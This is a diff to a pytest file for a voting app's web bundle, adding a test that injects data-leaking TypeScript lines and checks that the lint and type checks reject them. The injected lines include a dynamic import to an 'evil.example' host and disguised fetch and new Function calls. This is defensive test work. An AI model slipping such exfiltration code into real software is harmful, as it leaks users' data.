@@ -13,7 +13,7 @@ ROOT = Path(__file__).parents[1]
 WEB = ROOT / "web"
 DIST = WEB / "dist"
 NODE = Path(sysconfig.get_path("scripts")) / "node"
-ENTRIES = ("hushvote", "duel", "count", "en")
+ENTRIES = ("hushvote", "duel", "voting", "count", "en")
 
 pytestmark = pytest.mark.skipif(
     not (WEB / "node_modules" / ".installed").exists(),
@@ -71,6 +71,32 @@ def test_the_bundle_does_not_depend_on_where_it_is_built(built, tmp_path):
 @pytest.mark.parametrize(("name", "limit"), [("hushvote", 15_000), ("duel", 9_000)])
 def test_the_bundle_is_small(name, limit):
     assert len(gzip.compress((DIST / f"{name}.js").read_bytes(), 9, mtime=0)) < limit
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "void import(`https://evil.example/${String(ranking)}`);",
+        "(Reflect.get(globalThis, 'fetch') as (to: string) => void)(String(ranking));",
+        "(globalThis as unknown as { fetch(to: string): void }).fetch(String(ranking));",
+        "new Function(String(ranking))();",
+        "void fetch(String(ranking));",
+    ],
+)
+def test_a_source_that_reaches_outside_is_refused(line, tmp_path):
+    for name in ("src", "package.json", "eslint.config.mjs", "tsconfig.json", "tsconfig.spec.json"):
+        subprocess.run(["cp", "-r", WEB / name, tmp_path / name], check=True)
+    (tmp_path / "node_modules").symlink_to(WEB / "node_modules")
+    source = tmp_path / "src" / "lottery.ts"
+    added = f"export function leak(ranking: number[]): void {{\n  {line}\n}}\n"
+    source.write_text(source.read_text(encoding="utf-8") + added, encoding="utf-8")
+    eslint = WEB / "node_modules" / "eslint" / "bin" / "eslint.js"
+    tsc = WEB / "node_modules" / "typescript" / "bin" / "tsc"
+    refused = [
+        subprocess.run([NODE, *words], cwd=tmp_path, capture_output=True, check=False).returncode
+        for words in ([eslint, "src/lottery.ts"], [tsc, "-p", "tsconfig.json"])
+    ]
+    assert any(refused)
 
 
 @pytest.mark.parametrize("name", ENTRIES)
